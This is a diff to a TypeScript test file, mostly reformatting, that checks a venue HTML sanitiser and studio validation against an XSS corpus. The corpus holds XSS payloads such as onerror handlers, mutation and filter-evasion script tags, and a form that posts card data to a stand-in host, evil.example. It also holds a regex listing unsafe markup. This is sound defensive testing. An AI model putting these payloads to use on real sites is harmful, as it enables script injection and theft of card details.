@@ -1,5 +1,11 @@
 import { describe, expect, it } from "vitest";
-import { DISALLOWED_MARKUP_MESSAGE, excerpt, hasDisallowedMarkup, htmlToText, sanitizeVenueHtml } from "@/lib/html/sanitize";
+import {
+  DISALLOWED_MARKUP_MESSAGE,
+  excerpt,
+  hasDisallowedMarkup,
+  htmlToText,
+  sanitizeVenueHtml,
+} from "@/lib/html/sanitize";
 import { applyTransform } from "@/lib/sync/transforms";
 import { blockSchema } from "@/lib/studio/blocks";
 import { eventEditSchema } from "@/lib/studio/events";
@@ -41,7 +47,7 @@ const XSS_CORPUS = [
   '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
   '<base href="https://evil.example/">',
   "<template><script>alert(1)</script></template>",
-  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
   "<<script>alert(1)//<</script>",
   "<scr<script>ipt>alert(1)</scr</script>ipt>",
   '<a href="https://example.org" onclick="alert(1)">x</a>',
@@ -51,7 +57,8 @@ const XSS_CORPUS = [
 ];
 
 /** What must never survive: an executable tag, an event handler, a script-bearing scheme, inline style. */
-const UNSAFE = /<\s*(script|iframe|object|embed|svg|math|style|link|meta|form|input|button|base|img|template|body)\b|\son[a-z]+\s*=|javascript:|vbscript:|data:|style=|href="\/\//i;
+const UNSAFE =
+  /<\s*(script|iframe|object|embed|svg|math|style|link|meta|form|input|button|base|img|template|body)\b|\son[a-z]+\s*=|javascript:|vbscript:|data:|style=|href="\/\//i;
 
 describe("venue HTML sanitiser: the XSS corpus", () => {
   it.each(XSS_CORPUS)("leaves nothing executable of %s", (payload) => {
@@ -62,19 +69,23 @@ describe("venue HTML sanitiser: the XSS corpus", () => {
     expect(String(applyTransform("html", payload, { timeZone: "UTC" }) ?? "")).not.toMatch(UNSAFE);
   });
 
-  it.each(XSS_CORPUS.filter((p) => /<\s*(script|style|iframe|object|embed|form|input|link|meta|svg|math)\b|\son[a-z]+\s*=|javascript:/i.test(p)))(
-    "the studio refuses %s rather than cleaning it silently",
-    (payload) => {
-      expect(hasDisallowedMarkup(payload)).toBe(true);
-      const event = eventEditSchema.safeParse({ bodyOverrideHtml: payload });
-      expect(event.success).toBe(false);
-      expect(JSON.stringify(event.error?.issues)).toContain(DISALLOWED_MARKUP_MESSAGE);
-      expect(blockSchema.safeParse({ type: "richText", html: payload }).success).toBe(false);
-    },
-  );
+  it.each(
+    XSS_CORPUS.filter((p) =>
+      /<\s*(script|style|iframe|object|embed|form|input|link|meta|svg|math)\b|\son[a-z]+\s*=|javascript:/i.test(p),
+    ),
+  )("the studio refuses %s rather than cleaning it silently", (payload) => {
+    expect(hasDisallowedMarkup(payload)).toBe(true);
+    const event = eventEditSchema.safeParse({ bodyOverrideHtml: payload });
+    expect(event.success).toBe(false);
+    expect(JSON.stringify(event.error?.issues)).toContain(DISALLOWED_MARKUP_MESSAGE);
+    expect(blockSchema.safeParse({ type: "richText", html: payload }).success).toBe(false);
+  });
 
   it("is idempotent, so the sync and the page may both clean the same HTML", () => {
-    for (const payload of [...XSS_CORPUS, '<h1>T</h1><h5>s</h5><p><a href="https://a.b">y</a> <a href="mailto:x@y.z">m</a></p>']) {
+    for (const payload of [
+      ...XSS_CORPUS,
+      '<h1>T</h1><h5>s</h5><p><a href="https://a.b">y</a> <a href="mailto:x@y.z">m</a></p>',
+    ]) {
       const once = sanitizeVenueHtml(payload);
       expect(sanitizeVenueHtml(once)).toBe(once);
     }
@@ -83,7 +94,9 @@ describe("venue HTML sanitiser: the XSS corpus", () => {
 
 describe("venue HTML sanitiser: the policy", () => {
   it("removes scripts, handlers and javascript: links but keeps formatting", () => {
-    const out = sanitizeVenueHtml('<h1>Tosca</h1><p onclick="x()">A <strong>thriller</strong><script>alert(1)</script></p><a href="javascript:alert(1)">x</a><img src=x onerror=alert(1)>');
+    const out = sanitizeVenueHtml(
+      '<h1>Tosca</h1><p onclick="x()">A <strong>thriller</strong><script>alert(1)</script></p><a href="javascript:alert(1)">x</a><img src=x onerror=alert(1)>',
+    );
     expect(out).toContain("<h2>Tosca</h2>");
     expect(out).toContain("<strong>thriller</strong>");
     expect(out).not.toMatch(/script|onclick|onerror|javascript|<img/i);
@@ -94,19 +107,27 @@ describe("venue HTML sanitiser: the policy", () => {
   });
 
   it("keeps headings between h2 and h4: the page owns the h1", () => {
-    expect(sanitizeVenueHtml("<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6>")).toBe("<h2>a</h2><h2>b</h2><h3>c</h3><h4>d</h4><h4>e</h4><h4>f</h4>");
+    expect(sanitizeVenueHtml("<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6>")).toBe(
+      "<h2>a</h2><h2>b</h2><h3>c</h3><h4>d</h4><h4>e</h4><h4>f</h4>",
+    );
   });
 
   it("opens outside links safely", () => {
-    expect(sanitizeVenueHtml('<p><a href="https://example.org">Programme</a></p>')).toContain('rel="noopener noreferrer nofollow"');
+    expect(sanitizeVenueHtml('<p><a href="https://example.org">Programme</a></p>')).toContain(
+      'rel="noopener noreferrer nofollow"',
+    );
     expect(sanitizeVenueHtml('<p><a href="https://example.org">Programme</a></p>')).toBe(
       '<p><a href="https://example.org" rel="noopener noreferrer nofollow" target="_blank">Programme</a></p>',
     );
   });
 
   it("decides rel and target itself: mail, phone and relative links carry neither, whatever the author wrote", () => {
-    expect(sanitizeVenueHtml('<p><a href="mailto:box@example.org" target="_blank" rel="opener">Mail</a></p>')).toBe('<p><a href="mailto:box@example.org">Mail</a></p>');
-    expect(sanitizeVenueHtml('<p><a href="tel:+441234">Call</a> <a href="/membership" target="_top">Join</a></p>')).toBe('<p><a href="tel:+441234">Call</a> <a href="/membership">Join</a></p>');
+    expect(sanitizeVenueHtml('<p><a href="mailto:box@example.org" target="_blank" rel="opener">Mail</a></p>')).toBe(
+      '<p><a href="mailto:box@example.org">Mail</a></p>',
+    );
+    expect(
+      sanitizeVenueHtml('<p><a href="tel:+441234">Call</a> <a href="/membership" target="_top">Join</a></p>'),
+    ).toBe('<p><a href="tel:+441234">Call</a> <a href="/membership">Join</a></p>');
   });
 
   it("strips empty wrappers and treats Spektrix's empty editor output as no description", () => {
